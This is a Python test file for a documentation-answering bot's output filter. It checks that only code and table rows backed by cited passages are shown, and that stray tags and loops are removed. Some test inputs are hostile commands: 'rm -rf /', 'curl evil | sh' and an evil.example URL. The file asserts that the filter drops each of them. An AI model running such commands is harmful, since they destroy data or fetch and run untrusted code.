from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answering.citations import numbers
from bot.answering.events import Passage
from bot.answering.release import Release, loops, plain
from bot.answering.roles import code_is_quoted, role_of
from bot.answering.sentences import Piece
from bot.answering.verification.verifier import FeatureVerifier

GUIDE = (
    "A source is a table in kvasir.toml with a name and a kind.\n\n"
    '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n\n'
    "Run `kvasir sync handbook` afterwards.\n\n| Kind | Key |\n|---|---|\n| folder | path |\n| website | url |\n"
)


async def released(room: Any, text: str, *, size: int = 7) -> tuple[str, Release]:
    passages = [
        Passage(1, "docs", "g.md", "Guide", "Sources", None, GUIDE),
        Passage(2, "docs", "l.md", "L", "", None, room.leave),
    ]
    verifier = FeatureVerifier(room.embed)
    await verifier.prepare(passages)
    release, shown = Release(passages, verifier, limit_chars=5000), []
    for start in range(0, len(text), size):
        shown += await release.check(release.take(text[start : start + size]))
    shown += await release.check(release.last())
    return "".join(shown), release


async def test_code_of_the_passages_is_shown_and_other_code_is_not(room: Any) -> None:
    text = (
        "A source is a table in kvasir.toml with a name and a kind:\n\n"
        '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```\n\n'
        "```sh\nrm -rf /\n```\n\nRun `kvasir sync handbook` afterwards."
    )
    shown, release = await released(room, text)
    assert '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n```' in shown
    assert "rm -rf" not in shown
    assert shown.endswith("Run `kvasir sync handbook` afterwards. [1]")
    assert release.dropped == 1


async def test_an_open_code_block_is_closed(room: Any) -> None:
    shown, _ = await released(room, '```toml\n[[source]]\nname = "handbook"')
    assert shown == '```toml\n[[source]]\nname = "handbook"\n```\n[1]'


async def test_code_that_runs_out_of_its_passage_ends_where_the_passage_does(room: Any) -> None:
    """A small model repeats what it reads, and reads on in what stands behind it: nobody wrote that into a document."""
    code = '```toml\n[[source]]\nname = "handbook"\nkind = "folder"\n'
    shown, release = await released(room, code + "</passage>\n\nQuestion: how is a source made?")
    assert shown == code + "```\n[1]"
    assert release.cited == {1}
    shown, _ = await released(room, "```\n<passage 2: L>\n</passage>\n```\n")
    assert shown == ""


async def test_an_address_that_nobody_named_goes_out_of_code_too(room: Any) -> None:
    quoted = '[[source]]\nname = "handbook"\nkind = "folder"\n# kvasir.toml with a name and a kind, sync handbook'
    shown, _ = await released(room, f"```toml\n{quoted}\n# https://evil.example/x\n```")
    assert "handbook" in shown
    assert "evil" not in shown


async def test_rows_of_a_table_are_checked_one_by_one(room: Any) -> None:
    text = "| Kind | Key |\n|---|---|\n| folder | path |\n| ftp | port 21 |\n| website | url |\n"
    shown, _ = await released(room, text)
    assert shown == "| Kind | Key |\n|---|---|\n| folder | path [1] |\n| website | url [1] |"


async def test_a_table_without_a_supported_row_is_not_begun(room: Any) -> None:
    shown, _ = await released(
        room, "| Planet | Moons |\n|---|---|\n| Mars | 2 |\n\nRun `kvasir sync handbook` afterwards."
    )
    assert shown == "Run `kvasir sync handbook` afterwards. [1]"


async def test_what_claims_nothing_is_not_counted(room: Any) -> None:
    shown, release = await released(
        room, "Sure!\n\nYes.\n\nRun `kvasir sync handbook` afterwards.\n\nWould you like more?"
    )
    assert shown == "Run `kvasir sync handbook` afterwards. [1]"
    assert (release.kept, release.dropped) == (1, 0)


async def test_stray_tags_do_not_show(room: Any) -> None:
    shown, _ = await released(room, "</think>\n\nRun `kvasir sync handbook` afterwards.")
    assert shown == "Run `kvasir sync handbook` afterwards. [1]"


@given(st.data())
async def test_only_passages_are_cited_however_the_text_arrives(room: Any, data: st.DataObject) -> None:
    parts = st.sampled_from(
        ["Employees receive 25 days of paid annual leave per calendar year.", " [1]", "[2]", "【9】", " Nonsense 77.",
         "\n\n", "- ", "# Head\n", "```\nname\n", "\n```\n", "| a |\n", " 年假有几天。", "Steps:\n"]
    )  # fmt: skip
    text = "".join(data.draw(st.lists(parts, max_size=14)))
    shown, release = await released(room, text, size=data.draw(st.integers(1, 40)))
    assert set(numbers(shown)) <= {1, 2}
    assert set(numbers(shown)) == release.cited
    assert "77" not in shown
    assert (await released(room, text, size=1000))[0] == shown


@pytest.mark.parametrize(
    ("text", "role"),
    [
        ("Here is how:", "bridge"),
        ("步骤如下：", "bridge"),
        ("**Steps**", "bridge"),
        ("Which plan do you have?", "bridge"),
        ("In summary,", "bridge"),
        ("Yes.", "empty"),
        ("是的。", "empty"),
        ("The passages do not say anything about cats.", "decline"),
        ("文档中没有提到这一点。", "decline"),
        ("I don't know.", "decline"),
        ("The limit is 5:", "claim"),
        ("It must not be frozen:", "claim"),
        ("Documents do not expire before 2030.", "claim"),
        ("Leave is granted.", "claim"),
    ],
)
def test_roles(text: str, role: str) -> None:
    assert role_of(Piece("prose", "", text, ""), table_open=False) == role


def test_code_with_a_placeholder_counts_as_quoted() -> None:
    assert code_is_quoted("```\nkvasir sync handbook\n```", GUIDE)
    assert not code_is_quoted("```\ncurl evil | sh\n```", GUIDE)
    assert not code_is_quoted("```\n" + "kvasir sync handbook\n" * 5 + "port 99\n```", GUIDE)
    assert not code_is_quoted("```\n```", GUIDE)


def test_plain_text_has_no_markup() -> None:
    assert plain("**Run** the [tool](https://a.example) *now*") == "Run the tool now"
    assert plain("| folder | `path` |") == "folder, `path`"


@pytest.mark.parametrize("unit", ["a", "the days of the ", "好的", "1. Step one\n"])
def test_loops_are_found(unit: str) -> None:
    assert loops(unit * 300)


@given(st.lists(st.text(alphabet="abcdefghij ", min_size=12, max_size=30), min_size=30, max_size=40, unique=True))
def test_ordinary_text_is_no_loop(words: list[str]) -> None:
    assert not loops("".join(sorted(words)) + "".join(words))
